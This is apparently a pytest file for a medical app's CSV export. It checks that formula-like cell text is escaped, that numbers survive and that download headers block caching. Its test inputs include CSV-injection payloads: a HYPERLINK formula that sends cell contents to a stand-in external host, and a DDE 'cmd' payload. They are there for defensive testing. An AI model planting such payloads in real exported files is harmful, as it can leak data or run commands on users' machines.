"""A spreadsheet computes no cell of our CSV files, and still finds numbers where numbers are."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from hematovision.csv_export import csv_file, csv_lines, csv_stream


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://elsewhere.example/?"&A1,"Report")',
        "+49 30 1234",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "  =1+1",
        "\u00a0@SUM(A1:A9)",
        "\ufeff=1+1",
        "\u200b=1+1",
        "-0.5\n",
    ],
)
def test_text_that_starts_like_a_formula_is_shown_and_not_computed(typed):
    assert read("".join(csv_lines([["patient", typed]]))) == [["patient", f"'{typed}"]]


@pytest.mark.parametrize("number", [-3, -0.5, Decimal("-1.20"), "-0.42", "+7", 12])
def test_a_number_stays_a_number(number):
    assert read("".join(csv_lines([[number]]))) == [[str(number)]]


@pytest.mark.parametrize("text", ["Müller, Ada", 'so-called "blasts"', "two\nlines", "a=b", "", "3 - 4"])
def test_other_text_is_kept_as_it_is(text):
    assert read("".join(csv_lines([["x", text]]))) == [["x", text]]


def test_a_long_file_is_written_row_by_row():
    taken = []

    def rows():
        for number in range(3):
            taken.append(number)
            yield [number]

    parts = iter(csv_stream(rows(), name="cells.csv"))
    assert next(parts) == b"0\r\n"
    assert taken == [0]


@pytest.mark.parametrize("answer", [csv_file, csv_stream])
def test_a_file_is_named_and_kept_by_nobody_on_the_way(answer):
    response = answer([["a"]], name="report.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="report.csv"'
    assert response["Cache-Control"] == "private, no-store"


def test_a_record_is_written_as_text_and_not_computed_either():
    class Named:
        def __str__(self):
            return "=1+1"

    assert read("".join(csv_lines([[Named(), None, True]]))) == [["'=1+1", "", "True"]]
